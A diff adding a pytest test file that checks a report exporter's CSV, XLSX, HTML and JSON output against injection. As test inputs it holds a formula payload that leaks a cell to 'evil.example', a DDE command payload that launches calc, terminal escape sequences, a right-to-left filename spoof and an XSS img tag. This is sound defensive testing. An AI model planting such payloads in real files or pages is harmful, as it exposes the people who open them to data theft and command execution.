@@ -1,0 +1,101 @@
+"""Attacks at the trust boundary of reports, the command line and the files of BRIDGE_HOME.
+
+Each test is an attack that worked before: a formula in a CSV cell, an ESC sequence reaching a
+terminal, Rich markup in a remark crashing ``conflicts show``, files every local user could read,
+personal numbers in log lines that the mask did not recognise.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import zipfile
+from dataclasses import dataclass, field
+from datetime import datetime
+
+import pytest
+from openpyxl import load_workbook
+
+from reports.render import write
+from reports.unsynced import Filters, Row, Summary
+
+pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")  # openpyxl: "workbook contains no default style"
+
+NOW = datetime(2026, 11, 30, 12, 0, 0)
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+ATTACKS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1",
+           "张三\x1b[2J\x1b]0;owned\x07", "李四\u202egnp.exe", "王五\x9b31m"]
+
+
+@dataclass
+class FakeReport:
+    """What the writers read from a report: rows, each one's county, and the time."""
+
+    rows_: list[Row]
+    now: datetime = NOW
+    seen: list[str] = field(default_factory=list)
+
+    def rows(self, f: Filters):
+        return iter(self.rows_)
+
+    def county(self, row: Row) -> str:
+        return row.region_code[:6]
+
+
+def attack_rows() -> list[Row]:
+    return [Row("invalid", f"RH5301022026112500{i:02d}", "530102001001", "五华区", agent, "参保登记",
+                "530102********123X", "待处理", f"原因{agent}", "invalid", datetime(2026, 11, 25, 9, 0), 5.0)
+            for i, agent in enumerate(ATTACKS)]
+
+
+def assert_neutral(value: str) -> None:
+    assert not any(ch < " " or "\x7f" <= ch <= "\x9f" or "\u202a" <= ch <= "\u202e" for ch in value), repr(value)
+    assert value.lstrip(" ")[:1] not in ("=", "+", "-", "@"), repr(value)
+
+
+def test_no_csv_cell_starts_a_formula_or_carries_a_control(tmp_path):
+    write(FakeReport(attack_rows()), Filters(), "csv", tmp_path / "r.csv")
+    raw = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.reader(raw.splitlines()))
+    assert len(rows) == 1 + len(ATTACKS) and "\x1b" not in raw
+    for row in rows[1:]:
+        for value in row:
+            assert_neutral(value)
+    agents = [row[4] for row in rows[1:]]
+    assert agents[0] == "'" + FORMULA and agents[4] == "' =1+1"  # shown as the text it is
+    assert rows[1][2] == "530102001001" and rows[1][6] == "530102********123X"  # codes and IDs stay text
+    assert all(line.startswith('"') for line in raw.splitlines())  # every cell quoted
+
+
+def test_xlsx_cells_are_inline_strings_never_formulas(tmp_path):
+    write(FakeReport(attack_rows()), Filters(), "xlsx", tmp_path / "r.xlsx")
+    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
+        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in sheets and "<f " not in sheets and "\x1b" not in sheets
+    book = load_workbook(tmp_path / "r.xlsx")
+    detail, summary = book["明细"], book["汇总"]
+    for row in detail.iter_rows(min_row=2):
+        for c in row:
+            assert c.data_type != "f"
+            if isinstance(c.value, str):
+                assert_neutral(c.value)
+    assert detail["E2"].value == "'" + FORMULA and detail["C2"].value == "530102001001"
+    assert detail["C2"].data_type == "s"  # the region code is text, not the number 530102001001
+    labels = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "'" + FORMULA in labels  # the summary by agent shows the same names
+    for label in labels:
+        assert_neutral(label)
+
+
+def test_html_and_json_carry_no_controls_and_html_escapes(tmp_path):
+    rows = attack_rows()
+    rows[0].agent = '<img src=x onerror="alert(1)">' + FORMULA
+    write(FakeReport(rows), Filters(), "html", tmp_path / "r.html")
+    page = (tmp_path / "r.html").read_text(encoding="utf-8")
+    assert "<img" not in page and "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in page
+    assert not any(ch in page for ch in "\x1b\x07\x9b\u202e")
+    write(FakeReport(attack_rows()), Filters(), "json", tmp_path / "r.json")
+    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
+    texts = [r["agent"] for r in data["rows"]] + list(data["summary"]["按代办员（经办人）"])
+    assert not any(ch in value for value in texts for ch in "\x1b\x07\x9b\u202e")
+    assert data["rows"][0]["agent"] == FORMULA  # JSON is data: a formula there is only text
